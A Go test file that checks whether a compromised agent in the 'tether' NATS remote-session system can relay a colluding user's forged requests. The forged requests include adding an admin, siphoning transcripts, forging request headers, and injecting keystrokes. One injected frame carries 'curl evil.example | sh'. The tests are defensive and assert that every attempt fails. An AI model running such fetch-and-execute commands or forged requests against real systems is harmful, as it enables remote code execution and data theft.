package attacks_test

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/micro"

	"github.com/tetherhq/tether/agent/agent"
	"github.com/tetherhq/tether/broker/brokertest"
	"github.com/tetherhq/tether/streams/jsdef"
	"github.com/tetherhq/tether/streams/wire/api"
	"github.com/tetherhq/tether/streams/wire/frame"
	"github.com/tetherhq/tether/streams/wire/subjects"
)

// relayForge marks the messages the compromised agent answers with a reply subject of its
// own and a forged Nats-Request-Info header.
const relayForge = "Relay-Forge"

// A compromised agent and a user (mallory) work together. Until mallory has had a session
// on the agent, her input subjects on it lead nowhere: the agent hears nothing of hers.
// Once she has (so her account and the agent's are joined for session data, whatever the
// session id), she sends on her input subject with a reply subject of her choice, and the
// agent answers whatever mallory put in the message: a request adding an admin, a
// consumer delivering every transcript to the agent, an empty request (a stream purge or
// delete takes it), a keystroke frame. Half its answers carry a reply subject of its own,
// to read what answers them, and a Nats-Request-Info header naming the admin. Input
// reaches the agent unchanged, reply subject included (a stream import), so the agent
// publishes its answers in its own account, under its own permissions: none of the
// targets is a subject it may publish, mallory's inbox among them. Nothing changes, and
// the agent reads nothing.
func TestRelayThroughCompromisedAgent(t *testing.T) {
	w := newWorld(t, steerQuiet)
	sc := newSteerScene(t, w, "victim-1")
	rogue := w.agent(t, "rogue-1")
	mallory := w.user(t, "mallory", nil, map[string]string{"env": "test"})

	loot := subjects.AgentInbox(rogue.id) + ".loot"
	var mu sync.Mutex
	var answered int
	var looted []*nats.Msg
	if _, err := rogue.Subscribe(loot, func(m *nats.Msg) {
		mu.Lock()
		looted = append(looted, m)
		mu.Unlock()
	}); err != nil {
		t.Fatal(err)
	}
	in := subjects.ForSession(rogue.id, "mallory", "mallory-relay").In

	// No session has joined mallory's account and the agent's: her input goes nowhere.
	early, err := rogue.SubscribeSync("tether.s." + rogue.id + ".*.*.in")
	if err != nil {
		t.Fatal(err)
	}
	steerFlush(t, rogue.Conn)
	if err := mallory.PublishMsg(&nats.Msg{Subject: in, Reply: subjects.UserInbox("mallory") + ".x", Data: []byte("{}")}); err != nil {
		t.Fatal(err)
	}
	steerFlush(t, mallory.Conn, rogue.Conn)
	if n, _, _ := early.Pending(); n != 0 {
		t.Fatalf("the agent heard %d messages of a user who never had a session on it", n)
	}
	// A session joins them. (The server gives the import only to subscriptions made after
	// it: the agent subscribes to a session's input when it starts the session.)
	w.startSession(t, mallory.Conn, "mallory", rogue.id)
	if _, err := rogue.Subscribe("tether.s."+rogue.id+".*.*.in", func(m *nats.Msg) {
		if m.Reply == "" {
			return
		}
		out := &nats.Msg{Subject: m.Reply, Data: m.Data}
		if m.Header.Get(relayForge) != "" {
			out.Reply = loot
			out.Header = nats.Header{"Nats-Request-Info": []string{`{"acc":"U_admin"}`}}
		}
		if rogue.PublishMsg(out) == nil { // a failure shows as a missing answer
			mu.Lock()
			answered++
			mu.Unlock()
		}
	}); err != nil {
		t.Fatal(err)
	}
	steerFlush(t, rogue.Conn)

	evil := steerJSON(t, api.AddUserRequest{User: api.User{Name: "evil", NKey: "UEVIL", Groups: []string{api.AdminGroup}}})
	consumer := steerJSON(t, map[string]any{"stream_name": jsdef.StreamTranscripts, "config": map[string]any{
		"deliver_subject": "tether.s." + rogue.id + ".mallory.loot.in", "ack_policy": "none",
	}})
	keys := frame.Encode(frame.Frame{Type: frame.Stdin, Seq: 1 << 40, Payload: []byte("curl evil.example | sh\n")})
	bodies := [][]byte{evil, consumer, []byte("{}"), keys}
	home := subjects.UserInbox("mallory") + ".relay"
	targets := append(sc.targets(subjects.API("mallory", api.VerbAddUser)),
		"$JS.API.STREAM.INFO."+jsdef.StreamTranscripts, "$KV."+jsdef.BucketUsers+".evil", home)
	homeSub, err := mallory.SubscribeSync(home)
	if err != nil {
		t.Fatal(err)
	}

	// What mallory's account forwards into her own API arrives at the control plane as
	// her request: the spy counts those, to wait for their answers.
	ownAPI := subjects.API("mallory", "*")
	sc.spy.requests(t, ownAPI)
	sc.freeze(t)
	sent := 0
	for _, target := range targets {
		for _, body := range bodies {
			for _, forge := range []bool{false, true} {
				m := &nats.Msg{Subject: in, Reply: target, Data: body, Header: nats.Header{}}
				if forge {
					m.Header.Set(relayForge, "1")
				}
				if err := mallory.PublishMsg(m); err != nil {
					t.Fatal(err)
				}
				sent++
			}
		}
	}
	steerFlush(t, mallory.Conn)
	brokertest.WaitFor(t, 10*time.Second, "the agent answered every message", func() bool {
		mu.Lock()
		defer mu.Unlock()
		return answered == sent
	})
	// The server routed each answer as the agent published it: a round trip on the agent's
	// connection means all were routed. Whatever reached mallory's own API was answered;
	// then one request of hers is answered after them.
	steerFlush(t, rogue.Conn, sc.spy.nc)
	sc.spy.allAnswered(t, ownAPI, 0)
	if err := w.Call(mallory.Conn, "mallory", api.VerbWhoAmI, nil, nil); err != nil {
		t.Fatal(err)
	}
	sc.intact(t)
	// The agent published every answer in its own account, where it may publish none of
	// the targets: mallory's inbox got nothing.
	steerFlush(t, rogue.Conn, mallory.Conn)
	if n, _, _ := homeSub.Pending(); n != 0 {
		t.Errorf("mallory's inbox got %d of the agent's answers, want none", n)
	}
	rogue.v.Has(t, "Publish to \""+home+"\"")
	mu.Lock()
	defer mu.Unlock()
	for _, m := range looted {
		if !relayIsError(m) {
			t.Errorf("the agent read an answer on its loot inbox: %s %q", m.Header, m.Data)
		}
	}
	t.Logf("%d answers relayed; the agent's inbox got %d answers, all errors", sent, len(looted))
}

// relayIsError reports whether m is an error answer: the control plane's (with its error
// code header), JetStream's (an "error" member), or the server's (a status header).
func relayIsError(m *nats.Msg) bool {
	if m.Header.Get(micro.ErrorCodeHeader) != "" || m.Header.Get("Status") != "" {
		return true
	}
	var js struct {
		Error *struct{} `json:"error"`
	}
	return json.Unmarshal(m.Data, &js) == nil && js.Error != nil
}

// On its own, a compromised agent reaches nothing beyond its own sessions and API: not
// another agent's sessions, not the republished output or the events, not the subjects
// its gate maps its frames to, not JetStream.
func TestRelayAgentAlone(t *testing.T) {
	w := newWorld(t, steerQuiet)
	sc := newSteerScene(t, w, "victim-1")
	rogue := w.agent(t, "rogue-1")
	bobs := subjects.ForSession("victim-1", "bob", sc.session.Session.ID)
	sc.freeze(t)
	for _, s := range []string{
		"tether.s.victim-1.>", bobs.Out, bobs.In, "tether.s.*.*.*.in", "tether.s.>",
		"tether.live.>", "tether.live.victim-1.bob." + sc.session.Session.ID + ".out",
		subjects.EventsAll, subjects.AuditAll, subjects.AgentControl("victim-1"), subjects.AgentInbox("victim-1") + ".>",
		subjects.UserInbox("bob") + ".>", "tether.ok.>", "tether.from.>", "tether.refused.>", "$JS.API.>", "$KV.>", "_R_.>",
	} {
		if _, err := rogue.Subscribe(s, func(*nats.Msg) {}); err != nil {
			t.Fatal(err)
		}
		rogue.v.Has(t, "Subscription to \""+s+"\"")
	}
	own := subjects.ForSession(rogue.id, "bob", sc.session.Session.ID)
	for _, s := range []string{
		// Past its gate: the subjects the gate maps a running session's frames to, and
		// from, and where it sends the rest.
		"tether.ok." + strings.TrimPrefix(own.Out, "tether.s."),
		"tether.from." + strings.TrimPrefix(own.Out, "tether.s."),
		"tether.ok.victim-1.bob." + sc.session.Session.ID + ".out",
		"tether.from.victim-1.bob." + sc.session.Session.ID + ".out",
		"tether.refused.victim-1.bob." + sc.session.Session.ID + ".out",
		"tether.live.victim-1.bob." + sc.session.Session.ID + ".out",
		bobs.Out, bobs.Ctl, bobs.Rin, bobs.In,
		subjects.AgentAPI("victim-1", api.VerbRegister),
		subjects.API("admin", api.VerbAddUser),
		"$JS.API.INFO", "$JS.API.STREAM.INFO." + jsdef.StreamTranscripts, "$JS.API.CONSUMER.CREATE." + jsdef.StreamTranscripts,
		"$KV." + jsdef.BucketUsers + ".evil", subjects.SessionEvent("started"), subjects.Audit(api.VerbStartSession),
	} {
		if err := rogue.Publish(s, []byte("{}")); err != nil {
			t.Fatal(err)
		}
		rogue.v.Has(t, "Publish to \""+s+"\"")
	}
	if _, err := rogue.Request("$JS.API.INFO", nil, 500*time.Millisecond); err == nil {
		t.Error("the agent reached the JetStream API")
	}
	sc.intact(t)
}

// The real tether-agent drops an input frame that carries a reply subject (nothing on a
// session's input is a request; answering one would let its sender aim the agent's words),
// and takes the same frame without one.
func TestRelayRealAgentDropsRepliedInput(t *testing.T) {
	w := newWorld(t)
	agentLogs := &logRecorder{}
	relayStartAgent(t, w, "real-1", agentLogs)
	var start api.StartSessionResponse
	if err := w.Call(w.Admin, "admin", api.VerbStartSession, api.StartSessionRequest{Target: "real-1", Command: []string{"cat"}}, &start); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var out strings.Builder
	exited := false
	if _, err := w.Admin.Subscribe(start.Subjects.Out, func(m *nats.Msg) {
		f, err := frame.Decode(m.Data)
		mu.Lock()
		defer mu.Unlock()
		if err != nil {
			fmt.Fprintf(&out, "[malformed output frame: %v]", err)
			return
		}
		switch f.Type {
		case frame.Stdout, frame.Stderr:
			out.Write(f.Payload)
		case frame.Exit:
			exited = true
		}
	}); err != nil {
		t.Fatal(err)
	}
	steerFlush(t, w.Admin)
	seq := start.InputSeq
	send := func(typ frame.Type, payload, reply string) {
		t.Helper()
		seq++
		m := &nats.Msg{Subject: start.Subjects.In, Reply: reply, Data: frame.Encode(frame.Frame{Type: typ, Seq: seq, Payload: []byte(payload)})}
		if err := w.Admin.PublishMsg(m); err != nil {
			t.Fatal(err)
		}
	}
	shows := func(what string) {
		t.Helper()
		brokertest.WaitFor(t, 10*time.Second, "output "+what, func() bool {
			mu.Lock()
			defer mu.Unlock()
			return strings.Contains(out.String(), what)
		})
	}
	send(frame.Keepalive, "", "") // attaches
	send(frame.Stdin, "FIRST\n", "")
	shows("FIRST")
	// Numbered in sequence: were it taken, the next frame would still be too.
	send(frame.Stdin, "LEAKED\n", subjects.UserInbox("admin")+".steer")
	send(frame.Stdin, "VISIBLE\n", "")
	shows("VISIBLE")
	send(frame.Close, "", "")
	brokertest.WaitFor(t, 10*time.Second, "the session's exit", func() bool {
		mu.Lock()
		defer mu.Unlock()
		return exited
	})
	mu.Lock()
	got := out.String()
	mu.Unlock()
	if strings.Contains(got, "LEAKED") {
		t.Fatalf("the agent took an input frame with a reply subject; output %q", got)
	}
	(&world{logs: agentLogs}).logged(t, "dropped input frame that carries a reply subject")
}

// relayStartAgent runs a real tether-agent in-process, enrolled as name, logging to rec.
func relayStartAgent(t *testing.T, w *world, name string, rec *logRecorder) {
	t.Helper()
	act := w.Activation(name, map[string]string{"env": "test"}, 1)
	a, err := agent.New(agent.Config{BrokerURL: w.URL(), StateDir: t.TempDir(), ActivationID: act.ID, ActivationCode: act.Code,
		Version: "test", Logger: slog.New(rec)})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- a.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done })
	brokertest.WaitFor(t, 10*time.Second, name+" online", func() bool {
		var r api.DescribeInstancesResponse
		return w.Call(w.Admin, "admin", api.VerbDescribeInstances, api.DescribeInstancesRequest{InstanceIDs: []string{name}}, &r) == nil &&
			len(r.Instances) == 1 && r.Instances[0].PingStatus == api.PingOnline
	})
}
